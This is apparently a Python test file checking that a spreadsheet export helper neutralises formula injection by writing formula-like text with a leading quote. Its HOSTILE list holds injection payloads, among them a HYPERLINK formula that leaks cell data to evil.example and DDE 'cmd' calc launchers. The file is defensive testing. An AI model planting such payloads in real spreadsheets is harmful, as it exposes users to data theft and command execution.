"""write_xlsx: no text reaches a spreadsheet as a formula (OWASP CSV/formula injection)."""

import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook

from linli.core.excel import formula_like, safe_text, write_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1"]


def _cells(content: bytes) -> list[list]:
    return [list(row) for row in load_workbook(io.BytesIO(content)).active.iter_rows()]


def test_it_writes_formula_like_text_as_text_with_a_leading_quote():
    rows = _cells(write_xlsx(["姓名"], [[text] for text in HOSTILE]))
    for text, (cell,) in zip(HOSTILE, rows[1:], strict=True):
        assert cell.data_type == "s", text
        assert cell.value == "'" + text


def test_it_writes_no_formula_element_into_the_sheet():
    content = write_xlsx(["=A1"], [HOSTILE], title="=HYPERLINK(\"http://x\")")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


def test_it_keeps_numbers_dates_and_booleans_typed():
    rows = _cells(write_xlsx(["a"], [[5, -3.5, Decimal("2.5"), date(2020, 1, 2),
                                      datetime(2020, 1, 2, 3, 4), None, True]]))
    values = [(c.value, c.data_type) for c in rows[1]]
    assert values[:3] == [(5, "n"), (-3.5, "n"), (2.5, "n")]
    assert values[3] == (datetime(2020, 1, 2), "d") and values[4][1] == "d"
    assert values[5][0] is None and values[6] == (True, "b")


def test_it_leaves_plain_signed_numbers_and_phones_alone():
    rows = _cells(write_xlsx(["a"], [["-5", "+86 138 0000 0000", "(0971) 123-4567"]]))
    assert [c.value for c in rows[1]] == ["-5", "+86 138 0000 0000", "(0971) 123-4567"]
    assert all(c.data_type == "s" for c in rows[1])


def test_it_writes_error_codes_and_control_characters_as_plain_text():
    rows = _cells(write_xlsx(["a"], [["#N/A", "#DIV/0!", "马\x01福\x1f寿"]]))
    assert [(c.value, c.data_type) for c in rows[1]] == [
        ("#N/A", "s"), ("#DIV/0!", "s"), ("马福寿", "s")]


def test_it_neutralises_the_title_and_headers_too():
    rows = _cells(write_xlsx(["=cmd", "姓名"], [], title="@导入"))
    assert rows[0][0].value == "'@导入" and rows[1][0].value == "'=cmd"
    assert rows[1][0].data_type == "s" and rows[1][0].font.b


def test_it_tells_formula_like_text_from_numbers():
    assert all(formula_like(text) for text in HOSTILE)
    assert not any(formula_like(text) for text in ["-5", "+8613800000000", "-1.5", "马=1", ""])
    assert safe_text("=1") == "'=1" and safe_text(12) == "12"


def test_it_keeps_every_export_on_write_xlsx():
    """openpyxl is imported in one module only: an export that wrote its own workbook would
    bypass the neutralising."""
    root = Path(__file__).resolve().parents[2]
    users = [str(path.relative_to(root)) for path in root.rglob("*.py")
             if "tests" not in path.parts
             and re.search(r"^\s*(from|import) openpyxl", path.read_text(), re.M)]
    assert users == ["core/excel.py"]


def test_it_writes_no_cell_for_empty_text():
    content = write_xlsx(["a", "b", "c"], [["", "x", ""]])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert re.search(r'<row r="2"[^>]*><c r="B2"[^>]*>.*?</c></row>', sheet), sheet
